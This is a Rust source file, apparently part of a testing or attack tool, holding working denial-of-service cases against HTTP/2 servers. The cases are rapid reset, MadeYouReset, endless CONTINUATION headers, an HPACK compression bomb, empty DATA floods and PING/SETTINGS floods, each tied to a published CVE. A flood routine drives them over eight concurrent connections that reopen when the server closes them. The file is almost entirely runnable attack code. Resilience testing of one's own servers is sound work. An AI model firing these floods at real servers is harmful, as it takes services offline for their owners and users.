//! Attacks with HTTP/2 frames.

use std::time::Instant;

use futures_util::FutureExt as _;
use futures_util::future::LocalBoxFuture;

use crate::Case;
use crate::target::Target;
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE,
    frame, get_meta, many, post, text,
};

pub(crate) const CASES: &[Case] = &[
    Case::new("rapid reset", |target, until| flood(target, until, rapid_reset)),
    Case::new("MadeYouReset", |target, until| flood(target, until, made_you_reset)),
    Case::new("CONTINUATION without end", |target, until| flood(target, until, continuation)),
    Case::new("HPACK bomb", |target, until| flood(target, until, hpack_bomb)),
    Case::new("empty DATA", |target, until| flood(target, until, empty_data)),
    Case::new("PING and SETTINGS", |target, until| flood(target, until, ping_and_settings)),
];

/// Number of frames that a connection sends at once.
const BATCH: usize = 200;
/// Concurrent connections.
const CONNECTIONS: usize = 8;

/// Sends batches of frames on connections that are reopened when the server closes them.
fn flood<'a>(
    target: &'a Target,
    until: Instant,
    batch: fn(&mut Raw, bool) -> Vec<u8>,
) -> LocalBoxFuture<'a, Result<String, String>> {
    async move {
        let sent = many(CONNECTIONS, until, |_| async move {
            let Ok(mut raw) = Raw::open(target, 1).await else { return 0 };
            let mut sent = 0;
            let mut is_first = true;
            loop {
                let frames = batch(&mut raw, is_first);
                if raw.send(&frames).await.is_err() || Instant::now() >= until {
                    return sent;
                }
                is_first = false;
                sent += BATCH as u64;
            }
        })
        .await;
        Ok(format!("{sent} times"))
    }
    .boxed_local()
}

/// Requests that are cancelled at once (CVE-2023-44487).
fn rapid_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
    let (request, cancel) = (get_meta(), 8_u32.to_be_bytes());
    let one = |_| {
        let stream = raw.stream();
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &request), frame(RST_STREAM, 0, stream, &cancel)]
            .concat()
    };
    (0..BATCH).flat_map(one).collect()
}

/// Requests followed by an error that makes the server cancel them (CVE-2025-8671).
fn made_you_reset(raw: &mut Raw, _: bool) -> Vec<u8> {
    let (request, zero) = (get_meta(), 0_u32.to_be_bytes());
    let one = |_| {
        let stream = raw.stream();
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &request), frame(WINDOW_UPDATE, 0, stream, &zero)]
            .concat()
    };
    (0..BATCH).flat_map(one).collect()
}

/// Header blocks that never end (CVE-2024-27316).
fn continuation(raw: &mut Raw, is_first: bool) -> Vec<u8> {
    let mut block = vec![0];
    text(&mut block, "x-filler");
    text(&mut block, &"a".repeat(100));
    let mut frames = Vec::new();
    let stream = if is_first { raw.stream() } else { 1 };
    if is_first {
        frames.extend(frame(HEADERS, 0, stream, &get_meta()));
    }
    for _ in 0..BATCH {
        frames.extend(frame(CONTINUATION, 0, stream, &block));
    }
    frames
}

/// A long header field that is indexed once and referenced a thousand times in each request.
fn hpack_bomb(raw: &mut Raw, _: bool) -> Vec<u8> {
    // With incremental indexing the newest entry has number 62.
    let mut block = get_meta();
    for _ in 0..30 {
        block.push(0x40);
        text(&mut block, "x-long");
        text(&mut block, &"b".repeat(120));
    }
    block.extend(std::iter::repeat_n(0x80 | 62, 8000));
    let one = |_| {
        let stream = raw.stream();
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
    };
    (0..BATCH / 20).flat_map(one).collect()
}

/// Empty DATA frames on an open stream (CVE-2019-9518).
fn empty_data(raw: &mut Raw, is_first: bool) -> Vec<u8> {
    let mut frames = Vec::new();
    if is_first {
        let stream = raw.stream();
        frames.extend(frame(HEADERS, END_HEADERS, stream, &post("/prpc/SignCert")));
    }
    for _ in 0..BATCH {
        frames.extend(frame(DATA, 0, 1, &[]));
    }
    frames
}

/// Frames that must be acknowledged (CVE-2019-9512, CVE-2019-9515).
fn ping_and_settings(_: &mut Raw, _: bool) -> Vec<u8> {
    (0..BATCH / 2).flat_map(|_| [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[])].concat()).collect()
}
